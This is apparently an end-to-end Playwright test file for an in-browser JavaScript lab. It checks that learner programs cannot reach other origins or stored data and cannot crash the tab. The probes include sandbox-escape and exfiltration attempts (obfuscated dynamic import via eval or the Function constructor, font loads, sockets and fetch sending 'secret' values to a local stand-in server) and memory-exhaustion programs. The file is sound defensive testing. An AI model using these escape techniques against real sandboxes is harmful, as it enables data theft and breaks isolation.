import { createServer, type Server } from 'node:http';
import type { Page } from '@playwright/test';
import { CLAIM_LAB_DOORS_TIMEOUT, checkClaimLabDoors } from './doors';
import { editorReady, expect, exportedRoutes, HEAVY_LOAD, test } from './fixtures';

// Issue 17: a learner's program must not reach any other origin, the learner's stored data, Web
// Locks or OPFS. A second local server listens on another port while hostile programs run; it
// must receive nothing. It listens on 127.0.0.1, which the browser still resolves
// (playwright.config.ts), and the fixture's guard, which only reports off-origin requests and
// stops none, lets these tests try it: only the app's own defences stand between the program and
// that server, and the server counts what reaches it. (The browser reports a request a worker's
// import or font load attempts before the page policy refuses it.)
const EXFIL_PORT = Number(process.env.E2E_EXFIL_PORT ?? Number(process.env.E2E_PORT ?? 4173) + 1);
const EXFIL = `127.0.0.1:${EXFIL_PORT}`;

// One listener on one port: every test of this file runs in the same Playwright worker (with
// the suite's fullyParallel, two workers would each try to listen on EXFIL_PORT).
test.describe.configure({ mode: 'default' });

let server: Server;
const arrived: string[] = [];

test.beforeEach(({ guard }) => {
  guard.allowRequests.push(new RegExp(`^(http|ws)://${EXFIL.replaceAll('.', '\\.')}/`));
});

test.beforeAll(async () => {
  server = createServer((req, res) => {
    arrived.push(`${req.method} ${req.url}`);
    res
      .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
      .end('export default 1;');
  });
  server.on('upgrade', (req, socket) => {
    arrived.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve, reject) =>
    server.once('error', reject).listen(EXFIL_PORT, '127.0.0.1', resolve),
  );
});

test.afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
});

/** Replaces the program and runs it; the caller waits for what the run must show. */
async function runProgram(page: Page, source: string) {
  await page.getByRole('textbox', { name: 'Lab program editor' }).focus();
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(source);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
}

const runStatus = (page: Page) => page.getByRole('status').first();

// Type checking is not the guard being tested: each probe opts out of it on its first line.
const probes: { name: string; source: string; error: RegExp }[] = [
  {
    name: 'indirect eval of a hidden import',
    source: `(0, eval)('imp' + 'ort("http://${EXFIL}/eval?secret=42")');`,
    error: /Exception on line 2: ReferenceError: '?eval'? is not defined/,
  },
  {
    name: 'import with a comment before the parenthesis',
    source: `import/**/("http://${EXFIL}/import?secret=42");`,
    error: /A lab program is one script: "import" is not available.*line 2/,
  },
  {
    name: 'new Function hiding an import',
    source: `new Function('return imp' + 'ort("http://${EXFIL}/function?secret=42")')();`,
    error: /Exception on line 2: ReferenceError: '?Function'? is not defined/,
  },
  {
    name: 'the Function constructor reached through a function',
    source: `(() => 0).constructor('return imp' + 'ort("http://${EXFIL}/constructor")')();`,
    error: /Exception on line 2: TypeError: (.*constructor is )?not a function/,
  },
  {
    name: 'a font loaded from another origin',
    source: `new FontFace('x', 'url(http://${EXFIL}/font?secret=42)').load();`,
    error: /Exception on line 2: ReferenceError: '?FontFace'? is not defined/,
  },
  {
    name: 'a WebSocketStream',
    source: `new WebSocketStream('ws://${EXFIL}/stream?secret=42');`,
    error: /Exception on line 2: ReferenceError: '?WebSocketStream'? is not defined/,
  },
  {
    name: 'the classic network APIs',
    source: `const tries = [
  () => fetch('http://${EXFIL}/fetch'),
  () => new WebSocket('ws://${EXFIL}/ws'),
  () => new EventSource('http://${EXFIL}/events'),
  () => new XMLHttpRequest(),
  () => importScripts('http://${EXFIL}/script.js'),
  () => new Worker('http://${EXFIL}/worker.js'),
  () => new SharedWorker('http://${EXFIL}/shared.js'),
];
for (const t of tries) t();`,
    error: /Exception on line 3: ReferenceError: '?fetch'? is not defined/,
  },
  {
    name: 'stored data (IndexedDB)',
    source: `indexedDB.open('lease-lab');`,
    error: /Exception on line 2: ReferenceError: '?indexedDB'? is not defined/,
  },
  {
    name: 'stored data (localStorage, Cache Storage)',
    source: `print(typeof localStorage, typeof caches, typeof self, typeof location);\nlocalStorage.getItem('x');`,
    error: /Exception on line 3: ReferenceError: '?localStorage'? is not defined/,
  },
  {
    name: 'Web Locks held forever',
    source: `navigator.locks.request('lease-lab.records', () => new Promise(() => {}));`,
    error: /Exception on line 2: ReferenceError: '?navigator'? is not defined/,
  },
  {
    // Issue 42: the worker's own stack gave out first ("Maximum call stack size exceeded", no line).
    name: 'a recursion with no end',
    source: `function f(n) { return f(n + 1) + 1; }\nf(0);`,
    error: /Exception on line 2: InternalError: stack overflow/,
  },
  {
    // Issue 42 review, B: the worker's own stack gives out inside the engine first; it said
    // "Maximum call stack size exceeded" with no line before (lib/claim-lab/worker-stack.test.ts).
    name: 'JSON.stringify of a value nested 200,000 deep',
    source: `let o = {};\nfor (let i = 0; i < 200000; i++) o = { o };\nJSON.stringify(o);`,
    error:
      /Exception on line 4: The program stopped the lab's JavaScript engine: Maximum call stack size exceeded/,
  },
  {
    name: 'OPFS',
    source: `navigator.storage.getDirectory();`,
    error: /Exception on line 2: ReferenceError: '?navigator'? is not defined/,
  },
];

// Issue 27's claim-lab doors (e2e/doors.ts) and three journeys on one load of the lab (each was a
// load of its own: the lab, Monaco and its TypeScript worker, about 6 s of CPU). The doors come
// first: they watch the lab's Web Workers from the load on. The blob: worker comes last: the
// browser's refusals it provokes are console errors the guard is told to expect, so everything
// before it runs under the full guard.
test('oversized programs are bounded, hostile programs get a clear error, nothing carries over from one run to the next, and the page policy holds inside a blob: worker', async ({
  page,
  guard,
}) => {
  // Each journey keeps the ceiling it had as a test of its own: a ceiling on waiting, not a pace.
  test.setTimeout(CLAIM_LAB_DOORS_TIMEOUT + 180_000 + 2 * 120_000);
  await test.step('the claim lab: a 20 MB exception (case 1), a 4 MB cell (case 2), work left running (case 6) and 2,000 long column names, each bounded', () =>
    checkClaimLabDoors(page));
  await test.step('hostile programs get a clear error, and the second server receives nothing', async () => {
    // Each probe's error differs from the one before it, so waiting for it never reads a stale
    // status.
    for (const probe of probes) {
      await runProgram(page, `// @ts-nocheck\n${probe.source}`);
      await expect(runStatus(page), probe.name).toHaveText(probe.error, { timeout: 20_000 });
    }
    // A last, harmless program proves the lab still works after all of them.
    await runProgram(page, `print('still here')`);
    await expect(runStatus(page)).toHaveText(/^Ran in/, { timeout: 20_000 });
    await expect(page.getByRole('cell', { name: 'still here', exact: true })).toBeVisible();
    expect(arrived).toEqual([]);
  });

  await test.step('nothing carries over from one run to the next (issue 17, point 9)', async () => {
    await runProgram(
      page,
      `// @ts-nocheck\nJSON.stringify = () => 'patched';\nObject.prototype.hacked = 1;\nprint(JSON.stringify({ a: 1 }));`,
    );
    await expect(page.getByRole('cell', { name: 'patched', exact: true })).toBeVisible({
      timeout: 20_000,
    });
    await runProgram(
      page,
      `// @ts-nocheck\nprint(JSON.stringify({ a: 1 }), typeof ({} as any).hacked);`,
    );
    await expect(page.getByRole('cell', { name: '{"a":1} undefined', exact: true })).toBeVisible({
      timeout: 20_000,
    });
    await expect(runStatus(page)).toHaveText(/^Ran in/);
  });

  await test.step('the page policy holds inside a blob: worker even where the API is present', async () => {
    // The browser's own refusals are logged as console errors; they are what this step wants.
    guard.allowConsole.push(
      /Content Security Policy|Refused to|WebSocket|Failed to fetch|net::ERR/,
    );
    const results = await page.evaluate(async (target) => {
      const body = `
        const tries = {
          fetch: () => fetch('http://${target}/w-fetch'),
          import: () => import('http://${target}/w-import.js'),
          font: () => new FontFace('x', 'url(http://${target}/w-font)').load(),
          stream: () => new WebSocketStream('ws://${target}/w-stream').opened,
          socket: () => new Promise((ok, fail) => { const s = new WebSocket('ws://${target}/w-ws'); s.onopen = ok; s.onerror = () => fail(new Error('refused')); }),
        };
        (async () => {
          const out = {};
          for (const [name, run] of Object.entries(tries)) {
            try { await run(); out[name] = 'reached'; } catch (e) { out[name] = 'blocked: ' + (e && e.name); }
          }
          postMessage(out);
        })();`;
      const worker = new Worker(URL.createObjectURL(new Blob([body], { type: 'text/javascript' })));
      return new Promise<Record<string, string>>((resolve) => {
        worker.onmessage = (event) => resolve(event.data as Record<string, string>);
      });
    }, EXFIL);
    for (const [name, result] of Object.entries(results)) expect(result, name).toMatch(/^blocked/);
    expect(arrived).toEqual([]);
  });
});

// Issue 42, point 1: each of these crashed the tab ("Target crashed") while the program ran in
// the worker's own JavaScript heap, even under the counted budget of built-ins. In the program's
// own engine (QuickJS in WebAssembly, with a capped memory) each ends in one line, the page stays,
// and the demo runs again. (The fixture fails the test on a crashed page.)
const MEMORY_HOGS: { name: string; source: string }[] = [
  {
    name: 'the issue’s program',
    source: `const a = []; for (;;) a.push(new Array(1e6).fill(Math.random()));`,
  },
  {
    name: 'A: pushes, with a database call each round',
    source: `const a = []; for (;;) { const b = []; for (let i = 0; i < 1e6; i++) b.push(i + 0.5); a.push(b); db.get('SELECT 1'); }`,
  },
  {
    name: 'B: the native Array through [].constructor',
    source: `const A = [].constructor; const a = []; for (;;) a.push(new A(1e6).fill(Math.random()));`,
  },
];

test('a program that fills memory ends in one line, the tab stays, and the demo runs again (issue 42)', async ({
  page,
}) => {
  test.setTimeout(MEMORY_HOGS.length * 90_000 + 120_000);
  await page.goto('/practice/claim-lab');
  await editorReady(page);
  for (const hog of MEMORY_HOGS) {
    await test.step(hog.name, async () => {
      await runProgram(page, `// @ts-nocheck\n${hog.source}`);
      await expect(runStatus(page), hog.name).toHaveText(
        /^Your program used more than 64 MB, all the memory the lab gives one run, so it was stopped; the page and the lab are fine\./,
        { timeout: 60_000 },
      );
      // The page still answers (a crashed renderer answers nothing).
      expect(await page.evaluate(() => document.title)).not.toBe('');
    });
  }
  await test.step('the demo runs again, and passes', async () => {
    await page.getByRole('button', { name: 'Reset to the original' }).click();
    await expect(runStatus(page)).toHaveText(/^Ready\./);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(page.getByTestId('verdict')).toHaveText('pass', HEAVY_LOAD);
  });
});

test('every exported page carries the Content-Security-Policy', async ({ request }) => {
  for (const route of exportedRoutes()) {
    const html = await (await request.get(route)).text();
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/i.exec(html);
    expect(meta, route).not.toBeNull();
    const policy = meta![1].replaceAll('&#x27;', "'");
    for (const directive of [
      "connect-src 'self'",
      "font-src 'self'",
      "media-src 'none'",
      "worker-src 'self' blob:",
      "object-src 'none'",
    ]) {
      expect(policy, `${route}: ${directive}`).toContain(directive);
    }
    expect(policy).toMatch(
      /script-src 'self' 'unsafe-inline' 'unsafe-eval' 'wasm-unsafe-eval'(;|$)/,
    );
  }
});
